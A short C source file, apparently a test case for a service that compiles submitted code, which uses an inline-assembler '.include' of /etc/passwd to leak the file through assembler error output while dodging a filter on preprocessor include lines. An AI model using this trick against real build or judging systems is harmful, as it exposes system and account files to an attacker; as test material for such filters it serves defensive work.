/* Lets the assembler read a file of the user as a source: what it cannot assemble
 * it prints. Attacks: as includes-passwd.c; a filter of the preprocessor's lines
 * does not see it. */
#include "product.h"
__asm__(".include \"/etc/passwd\"");

void product(PARAMETERS) { all_rows(ARGUMENTS); }
